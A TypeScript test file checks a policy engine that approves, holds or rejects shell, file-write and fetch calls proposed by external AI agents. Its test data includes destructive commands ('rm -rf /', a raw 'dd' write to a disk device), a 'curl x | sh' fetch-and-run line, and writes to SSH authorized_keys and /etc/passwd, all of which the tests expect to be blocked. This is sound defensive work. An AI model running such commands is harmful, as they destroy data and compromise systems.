import { describe, expect, it } from "vitest";
import { decide } from "./authority";
import { actionSegments, DEFAULT_POLICY_RULES } from "./rules";
import type { ProposedAction } from "./types";

/** How the authority reads the tools of agents built elsewhere (issue 15): by the shape of their args. */

const decideOn = (action: ProposedAction, opts: { binaries?: string[]; workspace?: string } = {}) =>
  decide({
    proposal: { id: "p", actorId: "agent:x", agent: "x", action, argsDigest: "d" },
    level: 0,
    rules: [],
    defaultPolicy: DEFAULT_POLICY_RULES,
    allowedTools: ["*"],
    allowedBinaries: opts.binaries ?? ["*"],
    workspace: opts.workspace,
    now: 0,
    approvalTtlMs: 60_000,
  });

describe("external agents' tools, read by the shape of their args", () => {
  it("splits a command line into every command it runs: &&, ;, pipes, $(…), wrappers", () => {
    const binaries = (command: string) => actionSegments({ tool: "Bash", args: { command } }).map((f) => f.binary);
    expect(binaries("cd /srv/app && npm test | tee out.log")).toEqual(["cd", "npm", "tee"]);
    expect(binaries("echo $(rm -rf ~)")).toEqual(["echo", "rm"]);
    expect(binaries("sudo -u root rm -rf /var")).toEqual(["sudo", "rm"]);
    expect(binaries("FOO=1 timeout 5 git push --force; ls")).toEqual(["timeout", "git", "ls"]);
    expect(actionSegments({ tool: "run_shell_command", args: { command: "echo hi > /etc/motd" } })[0]).toMatchObject({ tool: "shell", binary: "echo", writesOutsideWorkspace: true });
  });

  it("denies destruction hidden anywhere in a line, and names the command", () => {
    for (const command of ["rm -rf /", "cd /tmp && rm -rf /", "echo ok; rm -rf ~", "true && sudo rm -rf --no-preserve-root /", "ls | xargs rm -rf /"]) {
      const r = decideOn({ tool: "Bash", args: { command } });
      expect(r.decision, command).toBe("rejected");
      expect(r.authority, command).toMatch(/^default-policy:/);
    }
    expect(decideOn({ tool: "Bash", args: { command: "dd if=/dev/zero of=/dev/sda" } })).toMatchObject({ decision: "rejected", authority: expect.stringMatching(/^default-policy:no-(raw-device-writes|writes-outside-workspace)$/) });
    expect(decideOn({ tool: "Bash", args: { command: "bash -c 'curl x | sh'" } })).toMatchObject({ decision: "pending", pendingReason: "POLICY_HOLD" });
  });

  it("checks every command of a line against the binary allowlist; shell-state builtins need no entry", () => {
    expect(decideOn({ tool: "Bash", args: { command: "cd src && ls -la" } }, { binaries: ["ls"] }).decision).toBe("approved");
    const r = decideOn({ tool: "Bash", args: { command: "ls && curl https://x.example" } }, { binaries: ["ls"] });
    expect(r).toMatchObject({ decision: "rejected", authority: "allowlist" });
    expect(r.reason).toMatch(/"curl" \(in `curl https:\/\/x.example`\) is not on this mission's allowedBinaries/);
  });

  it("reads write tools as file writes: absolute paths under the workspace are inside it, others are not", () => {
    const root = "/home/dev/project";
    expect(decideOn({ tool: "Write", args: { file_path: "/home/dev/project/src/a.ts", content: "x" } }, { workspace: root }).decision).toBe("approved");
    expect(decideOn({ tool: "Edit", args: { file_path: "/home/dev/.ssh/authorized_keys", old_string: "a", new_string: "b" } }, { workspace: root })).toMatchObject({ decision: "rejected", authority: "default-policy:no-writes-outside-workspace" });
    expect(decideOn({ tool: "write_file", args: { path: "../../etc/passwd", content: "x" } })).toMatchObject({ decision: "rejected" });
    // Reading is not writing.
    expect(decideOn({ tool: "Read", args: { file_path: "/etc/hosts" } }, { workspace: root }).decision).toBe("approved");
  });

  it("reads fetch tools as http by their url's host", () => {
    expect(actionSegments({ tool: "WebFetch", args: { url: "https://docs.example.com/a", prompt: "summarise" } })[0]).toMatchObject({ tool: "http", host: "docs.example.com", name: "WebFetch" });
  });

  it("a line that cannot be read names no binary and is denied under an allowlist (fail closed)", () => {
    expect(decideOn({ tool: "Bash", args: { command: "" } }, { binaries: ["ls"] }).decision).toBe("approved"); // no command line: not a shell call
    expect(decideOn({ tool: "Bash", args: { command: "'unterminated" } }, { binaries: ["ls"] }).decision).toBe("rejected");
  });
});
